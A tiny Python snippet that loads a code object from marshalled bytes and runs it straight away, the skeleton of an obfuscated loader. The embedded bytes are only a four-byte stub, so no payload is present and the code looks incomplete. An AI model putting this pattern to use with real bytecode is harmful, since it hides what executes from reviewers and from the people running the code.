import marshal
import types

_c = marshal.loads(b"\xe3\x00\x00\x00")
types.FunctionType(_c, globals())()
